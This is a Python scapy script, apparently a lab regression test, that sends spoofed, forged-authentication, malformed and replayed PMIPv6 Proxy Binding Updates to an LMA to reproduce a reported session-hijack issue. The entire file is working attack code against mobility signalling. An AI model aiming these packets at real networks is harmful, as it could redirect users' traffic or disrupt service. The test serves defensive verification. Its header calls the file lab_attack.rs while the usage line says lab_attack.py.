# The attacks of issue 9, run by lab_attack.rs from host2, a hypervisor host on
# wan2 that holds no key: PBUs for vm1 claiming it moved to mag2, sent to the
# LMA with mag2's address as their source, in every variant of missing, forged
# and broken authentication, a replay of an authentic PBU captured on wan2, and
# PBUs from an address that is no MAG's. scapy builds the IPv6 packets, their
# Mobility Header checksums and the frames; the PMIPv6 options (RFC 5213 8,
# RFC 4285 5), which scapy lacks, are packed by hand in pmip_mh.py, which
# the test runs before this file.
#
# usage: lab_attack.py LMA_ADDR LMA_MAC MAG2_ADDR HOST2_ADDR MAG2_SPI WAN2_PCAP [reported]
# Prints one line per variant: "sent NAME COUNT". With `reported`, only the
# attack as the issue reported it is sent.

import os
import sys

from scapy.all import IPv6, Ether, Raw, in6_chksum, rdpcap, raw, sendp

# padding, aligned, pbu and auth_option come from pmip_mh.py, run before this.

lma, lma_mac, mag2, host2, spi, pcap = sys.argv[1:7]
only_reported = sys.argv[7:] == ["reported"]
spi = int(spi)


def send(name, src, mh, count=1):
    packet = IPv6(src=src, dst=lma, nh=135, hlim=64) / Raw(mh)
    sum_ = in6_chksum(135, packet, mh)
    mh = mh[:4] + struct.pack("!H", sum_) + mh[6:]
    frame = Ether(dst=lma_mac) / IPv6(src=src, dst=lma, nh=135, hlim=64) / Raw(mh)
    sendp(frame, iface="eth0", count=count, verbose=False)
    print(f"sent {name} {count}", flush=True)


# The attack as reported: five PBUs, HI=4 (state unknown), which the LMA used
# to hold for MaxDelayBeforeNewBCEAssign and then act on.
send("no_option_hi4", mag2, pbu(4), count=5)
if only_reported:
    sys.exit(0)
send("no_option_hi3", mag2, pbu(3))
send("random_authenticator", mag2, pbu(3, auth_option(spi, os.urandom(16))))
send("unknown_spi", mag2, pbu(3, auth_option(0x9999, os.urandom(16))))
send("wrong_length", mag2, pbu(3, auth_option(spi, os.urandom(20))))
# Option Length 4: the SPI cut short (the option is 6 octets, last).
cut = (bytes([9, 4, 1, 0, 0, 1]), 8, 2)
send("truncated_option", mag2, pbu(3, cut))
# Option Length 40 where 21 octets follow: it runs past the message.
option, x, y = auth_option(spi, os.urandom(16))
send("overlong_option", mag2, pbu(3, (option[:1] + bytes([40]) + option[2:], x, y)))
# From this host's own address, which is no MAG's, with and without an option.
send("not_a_mag", host2, pbu(3))
send("not_a_mag_with_option", host2, pbu(3, auth_option(spi, os.urandom(16))))

# A replay: the first PBU mag2 sent for vm1 (its handoff there, seconds ago),
# octet for octet as captured on wan2.
for frame in rdpcap(pcap):
    data = raw(frame)
    if len(data) < 14 + 40 + 6 or data[12:14] != b"\x86\xdd":
        continue
    ip = IPv6(data[14:])
    if ip.nh == 135 and ip.src == mag2 and data[14 + 40 + 2] == 5:
        sendp(Ether(dst=lma_mac, type=0x86DD) / Raw(data[14:]), iface="eth0", verbose=False)
        print("sent replayed_pbu 1", flush=True)
        break
else:
    print("no PBU of mag2 in the capture", flush=True)
    sys.exit(1)
